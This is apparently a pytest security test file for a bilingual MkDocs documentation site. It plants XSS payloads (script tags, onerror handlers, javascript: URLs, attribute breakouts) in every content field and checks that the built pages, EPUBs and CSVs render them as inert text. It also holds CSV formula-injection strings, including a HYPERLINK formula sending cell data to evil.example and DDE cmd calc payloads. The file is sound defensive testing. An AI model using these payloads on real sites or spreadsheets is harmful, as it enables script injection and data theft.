"""Markup in any input is text: payloads planted in every input field that reaches a page stay inert in every
built page (body, nav, attributes, citation, tooltips, charts), and CSV downloads cannot run formulas.

One real build: a copy of the project with a payload in every field, built with the load-time validation of
ids and single-line fields switched off (`clusterdocs.schema.check_id` and the line check of `check_text`), so
that what is tested is the escaping at output, the second line of defence. Ids that name files (chapter slugs,
case and data set ids) are left alone: they become file paths, whose URLs MkDocs itself prints into the nav,
so validation is what keeps them plain.
"""

from __future__ import annotations

import csv
import functools
import io
import os
import re
import subprocess
import sys
import threading
import zipfile
from collections.abc import Iterator
from html.parser import HTMLParser
from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
import yaml

from clusterdocs.bench import copy_project
from clusterdocs.content.datasets import Column, Dataset
from clusterdocs.site.data import csv_cell, published_csv

FIELDS: list[str] = []
"""The input fields that got a payload, in planting order; payload number n is FIELDS[n]."""
IDS: set[int] = set()
"""The numbers of the payloads planted in ids: they reach pages in `id=` and `#fragment`s, not as text."""

MARK = re.compile(r"alert\((\d+)\)")


def payload(field: str, multiline: bool = False) -> str:
    """Every single-line payload, numbered for `field`; `multiline` adds the ones that need line breaks."""
    FIELDS.append(field)
    n = len(FIELDS) - 1
    text = (
        f'<img src=x onerror=alert({n})>"><script>alert({n})</script>x" onmouseover="alert({n})'
        f'<svg onload=alert({n})>[a](javascript:alert({n}))<a href="javascript:alert({n})">b</a>'
        f"<iframe src=javascript:alert({n})></iframe>&lt;b&gt; {{: onclick=alert({n}) }}"
    )
    if multiline:
        text += f"\n```\n<img src=x onerror=alert({n})>\n```\n\n---\n<img src=x onerror=alert({n})>\n"
    return text


def attr_payload(field: str) -> str:
    """A payload for an id: it breaks out of an attribute, or adds one through attr_list."""
    FIELDS.append(field)
    n = len(FIELDS) - 1
    IDS.add(n)
    return f'x{n}" onmouseover="alert({n})" data-x="{{: onclick=alert({n}) }}'


def _yaml(path: Path) -> object:
    return yaml.safe_load(path.read_text(encoding="utf-8"))


def _write_yaml(path: Path, data: object) -> None:
    path.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False), encoding="utf-8")


def _manifest(project: Path, stem: str) -> tuple[Path, dict]:
    path = project / "seeds" / f"{stem}.yml"
    return path, _yaml(path)


def plant(project: Path) -> None:
    """A payload in every input field that reaches a page."""
    seeds = project / "seeds"
    # Manifest 000 (zhuzhou): titles (one with a fence and a front-matter break), table id, keywords,
    # description, an editorial note; a table cell in the seed.
    path, m = _manifest(project, "000_231aad93862a9ce3")
    ch = m["chapters"][0]
    ch["title"] = {"zh": payload("manifest title.zh"), "en": payload("manifest title.en", multiline=True)}
    ch["keywords"] = {"zh": [payload("keywords.zh")], "en": [payload("keywords.en")]}
    ch["description"] = {"zh": payload("description.zh"), "en": payload("description.en")}
    ch["notes"][0]["zh"] = payload("editorial note zh")
    ch["notes"][0]["en"] = payload("editorial note en")
    m["tables"][0]["id"] = attr_payload("table id")
    _write_yaml(path, m)
    seed = seeds / "000_231aad93862a9ce3.txt"
    text = seed.read_text(encoding="utf-8")
    assert "化工" in text
    cell = payload("table cell").split("&lt;")[0].replace(" ", "")  # one token of the flattened table
    seed.write_text(text.replace("化工", f"化工{cell}", 1), encoding="utf-8")

    # Manifest 002 (science-parks): a declared heading id, renamed in its English file as well.
    path, m = _manifest(project, "002_c2486b4e052c9345")
    heading_id = attr_payload("declared heading id")
    for chapter in m["chapters"]:
        for h in chapter.get("headings") or []:
            if h["id"] == "policy":
                h["id"] = heading_id
    _write_yaml(path, m)
    english_path = project / "content" / "en" / "science-parks.yml"
    english = _yaml(english_path)
    for key in ("headings", "sections"):
        english[key][heading_id] = english[key].pop("policy")
    _write_yaml(english_path, english)

    # Manifest 003: an English title that ends the front matter.
    path, m = _manifest(project, "003_c4a6e7acb6afb95f")
    m["chapters"][0]["title"]["en"] = "Small towns\n---\n" + payload("title.en after a front-matter break")
    _write_yaml(path, m)

    # Seed 004 (hubei-county-clusters): the title line and the byline as printed, a numbered heading and a
    # paragraph appended; the manifest follows the seed.
    path, m = _manifest(project, "004_db9e5c3568965ac3")
    seed = seeds / "004_db9e5c3568965ac3.txt"
    lines = seed.read_text(encoding="utf-8").split("\n")
    title = "推进县域" + payload("seed title line").split("&lt;")[0] + "产业集群发展的对策建议"
    byline = "湖北省经委" + payload("seed byline").split("&lt;")[0] + "课题组"
    chapter = m["chapters"][0]
    assert lines[0].strip() == chapter["title"]["zh"] and lines[2].strip() == chapter["byline"]
    lines[0], lines[2] = f" {title} ", f"{byline} "
    chapter["title"]["zh"], chapter["byline"] = title, byline
    heading = "九、" + payload("seed heading").split("&lt;")[0]
    paragraph = "集群" + payload("seed paragraph").split("&lt;")[0] + "产业集群和<term>。"
    lines += [heading, paragraph, ""]
    seed.write_text("\n".join(lines), encoding="utf-8")
    _write_yaml(path, m)

    # Its English file: every field.
    english_path = project / "content" / "en" / "hubei-county-clusters.yml"
    english = _yaml(english_path)
    english["byline_en"] = payload("byline_en")
    english["abstract_zh"] = payload("abstract_zh", multiline=True)
    english["summary"] = payload("summary", multiline=True)
    first = next(iter(english["sections"]))
    english["sections"][first] = payload("section summary", multiline=True)
    english["headings"][first] = payload("English heading")
    for key in ("objectives", "questions"):
        for lang in ("zh", "en"):
            english[key][lang][0] = payload(f"{key} {lang}")
    _write_yaml(english_path, english)

    # Its translation: the first section's heading left out (the page falls back to the English heading
    # above), a paragraph, another heading and every field of the about block.
    translation_path = project / "content" / "translation" / "hubei-county-clusters.yml"
    translation = _yaml(translation_path)
    del translation["blocks"][first]
    paragraph_id = next(k for k in translation["blocks"] if "-p" in k)
    translation["blocks"][paragraph_id] = payload("translated paragraph", multiline=True)
    heading_id = next(k for k in translation["blocks"] if "-p" not in k and k != first)
    translation["blocks"][heading_id] = payload("translated heading")
    for key in ("translated_by", "checked"):
        translation["about"][key] = payload(f"translation {key}")
    translation["about"]["uncertain"][0] = payload("translation uncertain")
    _write_yaml(translation_path, translation)

    # Glossary: every field of the most used term; a new term whose Chinese form is markup, used in seed 004.
    glossary_path = project / "content" / "glossary.yml"
    glossary = _yaml(glossary_path)
    term = next(t for t in glossary if t["zh"] == "产业集群")
    term.update(
        id=attr_payload("glossary id"),
        pinyin=payload("glossary pinyin"),
        def_zh=payload("glossary def_zh"),
        def_en=payload("glossary def_en"),
    )
    glossary.append(
        {
            "id": "markup-term",
            "zh": "<term>",
            "pinyin": payload("new term pinyin"),
            "en": payload("new term en").split("&lt;")[0],
            "def_zh": payload("new term def_zh"),
            "def_en": payload("new term def_en"),
        }
    )
    _write_yaml(glossary_path, glossary)

    # Cases and clusters: names and every text field; a cluster id (clusters are anchors, not files).
    cases_path = project / "content" / "cases.yml"
    cases = _yaml(cases_path)
    case = cases[0]
    case["name"] = {"zh": payload("case name.zh"), "en": payload("case name.en")}
    for key in ("location", "industry", "period", "origin", "stage", "government_role", "scale", "summary"):
        case[key] = {"zh": payload(f"case {key}.zh"), "en": payload(f"case {key}.en")}
    case["timeline"][0] = {
        "year": payload("case timeline year"),
        "zh": payload("case timeline zh"),
        "en": payload("case timeline en"),
        "source": case["timeline"][0]["source"],  # every row names its source (content/cases.py)
    }
    case["arguments"][0]["zh"] = payload("case argument zh")
    case["arguments"][0]["en"] = payload("case argument en")
    _write_yaml(cases_path, cases)
    clusters_path = project / "content" / "clusters.yml"
    clusters = _yaml(clusters_path)
    cluster = next(c for c in clusters if c["id"] == "wenzhou")
    cluster["id"] = attr_payload("cluster id")
    cluster["name"] = {"zh": payload("cluster name.zh"), "en": payload("cluster name.en")}
    cluster["place"] = {"zh": payload("cluster place.zh"), "en": payload("cluster place.en")}
    cluster["industry"] = {"zh": payload("cluster industry.zh"), "en": payload("cluster industry.en")}
    _write_yaml(clusters_path, clusters)
    # Places of the locator map: names (a marker, a whole province, a place off the map), a note; the renamed
    # cluster followed.
    places_path = project / "content" / "places.yml"
    places = _yaml(places_path)
    by_id = {p["id"]: p for p in places}
    for place_id in ("zhuzhou", "hunan", "silicon-valley"):
        by_id[place_id]["name"] = {
            "zh": payload(f"place {place_id} name.zh"),
            "en": payload(f"place {place_id} name.en"),
        }
    by_id["silicon-valley"]["outside"] = {
        "zh": payload("place outside.zh"),
        "en": payload("place outside.en"),
    }
    by_id["wenzhou"]["pages"] = [f"cluster/{cluster['id']}"]
    _write_yaml(places_path, places)

    # A data set: title, column labels, a category and its English, notes; text cells with formulas.
    meta_path = project / "content" / "data" / "datang-value-chain.yml"
    meta = _yaml(meta_path)
    meta["title"] = {"zh": payload("data title.zh"), "en": payload("data title.en")}
    meta["notes"] = {"zh": payload("data notes.zh"), "en": payload("data notes.en")}
    for column in meta["columns"]:
        column["label"] = {
            "zh": payload(f"column {column['name']} label.zh"),
            "en": payload(f"column {column['name']} label.en"),
        }
    stage = meta["columns"][0]
    category = payload("category value").split("&lt;")[0].replace(",", " ")
    stage["values_en"][category] = payload("category English")
    _write_yaml(meta_path, meta)
    csv_path = meta_path.with_suffix(".csv")
    rows = list(csv.reader(io.StringIO(csv_path.read_text(encoding="utf-8"))))
    rows[1][0] = category
    rows[2][2] = payload("csv text cell")
    rows[3][2] = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    rows[4][2] = "+cmd|' /C calc'!A0"
    rows[5][2] = "-2+3+cmd|' /C calc'!A0"
    rows[6][2] = "@SUM(1+1)*cmd|' /C calc'!A0"
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerows(rows)
    csv_path.write_text(out.getvalue(), encoding="utf-8")


BYPASS = """
import sys
import clusterdocs.schema as schema
_check_text = schema.check_text
schema.check_id = lambda value, name, place: value
schema.check_text = lambda value, name, place, line=False: _check_text(value, name, place)
from mkdocs.__main__ import cli
sys.argv[0] = "mkdocs"
cli()
"""
"""`mkdocs build` with the load-time checks of ids and single-line fields switched off."""


@pytest.fixture(scope="module")
def attack(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Path]:
    """The site built from a copy of the project with a payload in every input field."""
    base = tmp_path_factory.mktemp("markup")
    project = copy_project(base / "project")
    plant(project)
    out = base / "site"
    env = {**os.environ, "NO_MKDOCS_2_WARNING": "1", "PYTHONPATH": str(project / "scripts")}
    result = subprocess.run(
        [sys.executable, "-c", BYPASS, "build", "--no-strict", "--site-dir", str(out)],
        cwd=project,
        capture_output=True,
        text=True,
        env=env,
        check=False,
    )
    assert result.returncode == 0, f"the build failed:\n{result.stdout}\n{result.stderr}"
    yield out


class LiveMarkup(HTMLParser):
    """Elements and attributes a payload created, as a browser would parse the page."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self.text: list[str] = []
        self.ids: list[str] = []
        self._script: str | None = None

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = {name: value or "" for name, value in attrs}
        where = f"<{tag} {' '.join(f'{k}={v!r}' for k, v in values.items())}>"
        self.ids += [values.get("id", ""), values.get("href", "").partition("#")[2]]
        for name, value in values.items():
            if name.startswith("on"):
                self.found.append(f"event handler {name}: {where}")
            if re.sub(r"[\s\x00-\x1f]", "", value).lower().startswith(("javascript:", "data:text/html")):
                self.found.append(f"script URL in {name}: {where}")
        made = values.get("src") == "x" or any(MARK.search(v) for v in values.values())
        if made and tag in {
            "img",
            "iframe",
            "svg",
            "object",
            "embed",
            "frame",
            "base",
            "form",
            "style",
            "link",
        }:
            self.found.append(f"injected element: {where}")
        if tag == "script":
            src = values.get("src", "")
            if src and not re.fullmatch(r"/?(\.\./)*assets/[\w./-]+\.js", src):
                self.found.append(f"script from elsewhere: {where}")
            self._script = ""

    def handle_endtag(self, tag: str) -> None:
        if tag == "script" and self._script is not None:
            if MARK.search(self._script):
                self.found.append(f"injected script: {self._script[:120]!r}")
            self._script = None

    def handle_data(self, data: str) -> None:
        if self._script is not None:
            self._script += data
        else:
            self.text.append(data)


def test_every_payload_is_shown_as_text_and_none_is_live(attack: Path) -> None:
    pages = sorted(attack.rglob("*.html"))
    assert len(pages) > 70
    live, shown = [], set()
    for page in pages:
        parser = LiveMarkup()
        parser.feed(page.read_text(encoding="utf-8"))
        parser.close()
        live += [f"{page.relative_to(attack)}: {finding}" for finding in parser.found]
        shown |= {int(n) for n in MARK.findall("".join(parser.text))}
        shown |= {n for n in IDS for value in parser.ids if value.startswith(f"x{n}")}
    for number, field in enumerate(FIELDS):
        live = [f"{line} [{field}]" if f"alert({number})" in line else line for line in live]
    assert live == [], "\n".join(live)
    # Every planted field reached some page (as text; an id as an id): the scan above looked at real payloads.
    assert [field for n, field in enumerate(FIELDS) if n not in shown] == []


def test_nav_and_titles_show_the_payload_as_text(attack: Path) -> None:
    page = (attack / "en" / "chapters" / "index.html").read_text(encoding="utf-8")
    n = FIELDS.index("manifest title.en")
    # The nav link of the planted chapter: its text is the escaped title, on one line.
    assert f"&lt;img src=x onerror=alert({n})&gt;" in page
    assert f"<img src=x onerror=alert({n})>" not in page


def test_the_citation_block_shows_a_hostile_title_as_text_in_every_format(attack: Path) -> None:
    page = (attack / "en" / "chapters" / "zhuzhou" / "index.html").read_text(encoding="utf-8")
    start = page.index('<div class="citations"')
    block = page[start : page.index("<h2", start)]
    n = FIELDS.index("manifest title.en")
    assert block.count(f"&lt;img src=x onerror=alert({n})&gt;") == 6  # 3 in the title; APA and BibTeX
    assert "<img" not in block and "<script" not in block


BOOKS = """
import sys
from pathlib import Path
import clusterdocs.schema as schema
_check_text = schema.check_text
schema.check_id = lambda value, name, place: value
schema.check_text = lambda value, name, place, line=False: _check_text(value, name, place)
from clusterdocs.book.content import load_sources, make_book
from clusterdocs.book.document import document
from clusterdocs.book.epub import epub_bytes
from clusterdocs.ingest.corpus import load_corpus
out = Path(sys.argv[1])
chapters, _ = load_corpus(Path("seeds"))
sources = load_sources(chapters, Path("content"))
url = "https://reader.example.org/"
for lang in ("zh", "en"):
    (out / f"{lang}.html").write_text(document(make_book(sources, lang, url, False), ""), encoding="utf-8")
    (out / f"{lang}.epub").write_bytes(epub_bytes(make_book(sources, lang, url, True)))
"""
"""The books' HTML document (what WeasyPrint renders as the PDF) and EPUB of each language, the load-time
checks switched off as in BYPASS."""


def test_every_payload_the_books_show_is_text_and_none_is_live(attack: Path) -> None:
    project, out = attack.parent / "project", attack.parent / "books"
    out.mkdir()
    env = {**os.environ, "PYTHONPATH": str(project / "scripts")}
    result = subprocess.run(
        [sys.executable, "-c", BOOKS, str(out)],
        cwd=project,
        capture_output=True,
        text=True,
        env=env,
        check=False,
    )
    assert result.returncode == 0, f"making the books failed:\n{result.stdout}\n{result.stderr}"
    documents = {f"{lang}.html": (out / f"{lang}.html").read_text(encoding="utf-8") for lang in ("zh", "en")}
    for lang in ("zh", "en"):
        with zipfile.ZipFile(out / f"{lang}.epub") as epub:
            documents |= {
                f"{lang}.epub/{n}": epub.read(n).decode() for n in epub.namelist() if n.endswith("html")
            }
    live, shown = [], set()
    for name, text in documents.items():
        parser = LiveMarkup()
        parser.feed(text)
        parser.close()
        live += [f"{name}: {finding}" for finding in parser.found]
        shown |= {int(n) for n in MARK.findall("".join(parser.text))}
    assert live == [], "\n".join(live)
    # The fields the books print reached them as text: the scan above looked at real payloads.
    for field in (
        "manifest title.zh",
        "manifest title.en",
        "editorial note zh",
        "editorial note en",
        "table cell",
    ):
        assert FIELDS.index(field) in shown, field


def test_formula_cells_are_neutralised_in_the_published_csv(attack: Path) -> None:
    published = (attack / "data" / "datang-value-chain.csv").read_text(encoding="utf-8")
    rows = list(csv.reader(io.StringIO(published)))
    cells = [row[2] for row in rows[3:7]]
    assert all(cell.startswith("'") for cell in cells), cells
    assert cells[0] == "'" + '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def _dataset(columns: list[tuple[str, str]], rows: list[list[str]]) -> Dataset:
    cols = [Column(name, name, name, kind, "", {}) for name, kind in columns]
    return Dataset(
        id="t",
        title_zh="t",
        title_en="t",
        chapter="c",
        source_file="s.txt",
        columns=cols,
        rows=[dict(zip([c.name for c in cols], row, strict=True)) for row in rows],
        notes_zh="",
        notes_en="",
        chart=None,
        quotes=[],
    )


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_text_cell_a_spreadsheet_would_run_gets_an_apostrophe(start: str) -> None:
    value = f"{start}1+cmd|' /C calc'!A0"
    assert csv_cell(value, "text") == "'" + value
    assert csv_cell(value, "category") == "'" + value


def test_figures_keep_their_sign_but_a_formula_in_a_number_column_does_not_pass() -> None:
    assert csv_cell("-12.5", "number") == "-12.5"
    assert csv_cell("-1,200", "number") == "-1,200"
    assert csv_cell("-3", "year") == "-3"
    assert csv_cell("-2+3", "number") == "'-2+3"
    assert csv_cell("=1+1", "number") == "'=1+1"
    assert csv_cell("-12.5", "text") == "'-12.5"  # a text column is not a figure, whatever it looks like


def test_the_published_csv_is_the_input_where_nothing_needs_neutralising() -> None:
    ds = _dataset([("name", "text"), ("n", "number")], [["a, b", "-1"], ['say "hi"', "2"], ["=A1", "3"]])
    parsed = list(csv.reader(io.StringIO(published_csv(ds))))
    assert parsed == [["name", "n"], ["a, b", "-1"], ['say "hi"', "2"], ["'=A1", "3"]]


def test_every_data_page_says_formula_cells_are_prefixed(attack: Path) -> None:
    for lang, sentence in (("", "开头加了一个撇号"), ("en/", "prefixed with an apostrophe")):
        for page in (attack / lang / "data").glob("*/index.html"):
            assert sentence in page.read_text(encoding="utf-8"), page


class _Quiet(SimpleHTTPRequestHandler):
    def log_message(self, format: str, *args: object) -> None:
        pass


LIVE_JS = """() => [...document.querySelectorAll('*')]
    .filter(e => ['IMG', 'IFRAME', 'SCRIPT', 'EMBED', 'OBJECT'].includes(e.tagName.toUpperCase())
                 && /alert\\(/.test(e.outerHTML) || [...e.attributes].some(a => a.name.startsWith('on')))
    .map(e => e.outerHTML.slice(0, 120))"""
"""Elements now in the document (tooltips included) that a payload made: handlers, images, frames, scripts."""


@pytest.mark.browser
def test_no_payload_becomes_an_element_in_chromium_not_even_in_a_tooltip(attack: Path, browser) -> None:
    handler = functools.partial(_Quiet, directory=attack)
    httpd = ThreadingHTTPServer(("127.0.0.1", 0), handler)
    threading.Thread(target=httpd.serve_forever, daemon=True).start()
    base = f"http://127.0.0.1:{httpd.server_address[1]}"
    context = browser.new_context()
    page = context.new_page()
    dialogs: list[str] = []
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    try:
        for path in (
            "/chapters/hubei-county-clusters/",
            "/en/chapters/hubei-county-clusters/",
            "/en/chapters/zhuzhou/",
            "/glossary/",
            "/cases/silicon-valley/",
            "/en/cases/clusters/",
            "/en/data/datang-value-chain/",
        ):
            page.goto(base + path)
            page.wait_for_load_state("load")
            terms = page.locator("article a.term:visible")
            assert "/chapters/" not in path or terms.count() > 0, path  # chapter pages link glossary terms
            assert page.evaluate(LIVE_JS) == [], path
            for i in range(min(terms.count(), 5)):
                terms.nth(i).hover()
                page.wait_for_selector("#term-popover", state="visible")  # site.js fills it from data-term-*
                assert page.evaluate(LIVE_JS) == [], (path, terms.nth(i).inner_text())
    finally:
        context.close()
        httpd.shutdown()
    assert dialogs == []


@pytest.mark.parametrize(
    "fragment",
    [
        "%E0%A4%A",
        "%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E",
        "s1%22%20onmouseover%3D%22alert(2)",
        "x'];alert(3)//",
    ],
)
def test_a_hostile_or_malformed_fragment_raises_nothing_and_runs_nothing(visit, fragment: str) -> None:
    errors: list[str] = []
    visit.page.on("pageerror", lambda error: errors.append(str(error)))
    visit.page.on("dialog", lambda dialog: (errors.append(dialog.message), dialog.dismiss()))
    visit.goto(f"/en/chapters/zhuzhou/#{fragment}")
    visit.page.evaluate("window.dispatchEvent(new HashChangeEvent('hashchange'))")  # site.js reads it again
    assert visit.page.evaluate(LIVE_JS) == []
    assert errors == []
